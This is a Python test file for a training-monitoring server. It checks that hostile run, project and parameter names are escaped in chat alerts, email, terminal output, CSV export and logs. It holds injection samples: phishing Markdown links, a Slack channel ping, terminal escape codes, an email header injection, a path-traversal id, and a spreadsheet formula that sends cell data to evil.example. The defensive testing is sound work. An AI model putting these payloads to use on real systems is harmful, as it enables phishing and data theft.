"""Names of runs, projects and parameters are text, whatever they hold: a receiver shows them and follows none."""

import base64
import csv
import email
import email.policy
import io
import json
import logging
import queue
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import SMTP, Envelope, Session

from gradwatch import wire
from gradwatch_server.telemetry.logs import LogFormatter
from tests.processes import PATIENCE_SECONDS, GradwatchServer, WebhookReceiver, environment, free_port, sample

LINK = "[Reset password](https://evil.example)"
BOLD = "**[weight](https://evil.example)**"
CHANNEL = "<!channel> <https://evil.example|x>"
TERMINAL = "\x1b]0;owned\x07\x1b[2J\u202ered\nsecond line"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class Mails:
    """What an SMTP server has been given."""

    def __init__(self) -> None:
        self.taken: queue.Queue[EmailMessage] = queue.Queue()

    async def handle_DATA(self, server: SMTP, session: Session, envelope: Envelope) -> str:  # noqa: N802
        content = envelope.content
        assert isinstance(content, bytes)
        self.taken.put(email.message_from_bytes(content, EmailMessage, policy=email.policy.default))
        return "250 OK"


def receiver(kind: str, address: str) -> str:
    """Return the configuration of a receiver."""
    return f'[[receivers]]\nname = "{kind}"\ntype = "{kind}"\nallow_networks = ["127.0.0.0/8"]\n{address}\n'


@contextmanager
def alerting(folder: Path, receivers: str, name: str) -> Iterator[None]:
    """Run a server that sends an alert of a run with this name; its project and parameter have hostile names, too."""
    config = folder / "gradwatch.toml"
    config.write_text(receivers)
    with GradwatchServer(folder / "gradwatch.db", "--config", str(config)) as server:
        run = server.register([BOLD], project=CHANNEL, name=name)
        server.store(run, wire.Batch(id="1", samples=[sample(1, 1.0), sample(2, float("nan"))]))
        yield


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """What each kind of chat got of the alert."""
    with WebhookReceiver() as slack, WebhookReceiver() as teams:
        hooks = {"slack": slack, "teams": teams}
        receivers = "".join(receiver(kind, f'url = "{hook.url}"') for kind, hook in hooks.items())
        with alerting(tmp_path_factory.mktemp("names"), receivers, LINK):
            yield {kind: json.loads(hook.wait(1)[0][1]) for kind, hook in hooks.items()}


def shown(document: Any) -> Iterator[str]:
    """Yield the texts of an adaptive card that Teams renders as Markdown."""
    if isinstance(document, list):
        for entry in document:
            yield from shown(entry)
    elif isinstance(document, dict):
        for key, entry in document.items():
            if key in ("text", "title", "value") and isinstance(entry, str):
                yield entry
            else:
                yield from shown(entry)


def test_teams_shows_no_link_that_a_name_holds(told: dict[str, Any]) -> None:
    texts = list(shown(told["teams"]["attachments"][0]["content"]["body"]))
    assert any("Reset password" in text for text in texts)
    assert any("weight" in text for text in texts)
    for text in texts:
        assert not re.search(r"(?<!\\)\[[^\[\]]*(?<!\\)\]\(", text), f"a link: {text}"
        assert not re.search(r"(?<!\\)\*\*", text), f"bold: {text}"


def test_slack_calls_nobody_and_shows_no_link_that_a_name_holds(told: dict[str, Any]) -> None:
    texts = [told["slack"]["text"], told["slack"]["blocks"][0]["text"]["text"]]
    for text in texts:
        assert "<!channel>" not in text
        assert "<https://evil.example" not in text
        assert "&lt;!channel&gt;" in text
        assert "](" not in text, "Mattermost and Rocket.Chat, which read the same form, show a link"


def test_a_name_puts_no_header_and_no_body_into_a_mail(tmp_path: Path) -> None:
    injected = b"x\r\nReply-To: evil@evil.example\r\nContent-Type: text/html\r\n\r\n<h1>Log in again</h1>"
    mails, port = Mails(), free_port()
    smtp = Controller(mails, hostname="127.0.0.1", port=port)
    smtp.start()
    try:
        address = f'host = "127.0.0.1"\nport = {port}\nsecurity = "none"\nsender = "a@example.com"\n'
        name = f"=?utf-8?b?{base64.b64encode(injected).decode()}?="
        with alerting(tmp_path, receiver("email", address + 'to = ["b@example.com"]'), name):
            mail = mails.taken.get(timeout=PATIENCE_SECONDS)
    finally:
        smtp.stop()
    assert mail["Reply-To"] is None
    assert mail["Message-ID"] is not None
    assert mail.get_content_type() == "text/plain"
    assert "nonfinite" in mail["Subject"]
    assert "weight" in mail.get_content()


def printed(*arguments: str) -> bytes:
    """Return what a command prints."""
    command = [sys.executable, "-m", "gradwatch", *arguments]
    return subprocess.run(command, env=environment(), capture_output=True, check=True).stdout


def test_nothing_that_a_name_holds_acts_on_a_terminal_or_in_a_spreadsheet(server: GradwatchServer) -> None:
    run = server.register([FORMULA, TERMINAL], project=TERMINAL, name=TERMINAL)
    server.store(run, wire.Batch(id="1", samples=[sample(1, 1.0, 1.0), sample(2, 1.0, float("nan"))]))
    (alert,) = server.get("/api/v1/alerts")
    acknowledged = server.http.post(f"/api/v1/alerts/{alert['id']}/acknowledge", json={"author": TERMINAL})
    assert acknowledged.status_code == 200
    silence = {"author": TERMINAL, "comment": TERMINAL, "ends_at": time.time() + 3_600}
    assert server.http.post("/api/v1/silences", json=silence).status_code == 201
    lists = [printed(name, "--url", server.url) for name in ("alerts", "silence")]
    table = printed("export", run, "--database-url", f"sqlite:///{server.database}")
    for shown in (*lists, table):
        assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]|\xe2\x80\xae", shown), shown
        assert b"\\x1b]0;owned\\x07" in shown
    assert [len(shown.splitlines()) for shown in lists] == [1, 1]
    cells = {row["parameter"] for row in csv.DictReader(io.StringIO(table.decode()))}
    assert "'" + FORMULA in cells


def test_a_line_of_the_log_stays_one_line_and_acts_on_no_terminal() -> None:
    try:
        raise ValueError(TERMINAL)
    except ValueError:
        record = logging.LogRecord("name", logging.ERROR, "path", 1, "about %s", (TERMINAL,), sys.exc_info())
    first, *traceback = LogFormatter("%(levelname)s %(message)s").format(record).split("\n")
    assert first == "ERROR about \\x1b]0;owned\\x07\\x1b[2J\\u202ered\\nsecond line"
    assert traceback[0] == "Traceback (most recent call last):"
    assert "\x1b" not in "".join(traceback)


def test_an_id_in_a_command_cannot_lead_to_another_path(server: GradwatchServer) -> None:
    command = [sys.executable, "-m", "gradwatch", "silence", "--end", "../alerts?x=", "--url", server.url]
    ended = subprocess.run(command, env=environment(), capture_output=True, text=True)
    assert (ended.returncode, "no silence" in ended.stderr or "404" in ended.stderr) == (1, True), ended.stderr
    counted = server.http.get("/metrics").text
    assert 'method="DELETE",route="other"' in counted or 'route="/api/v1/silences/{id}"' in counted
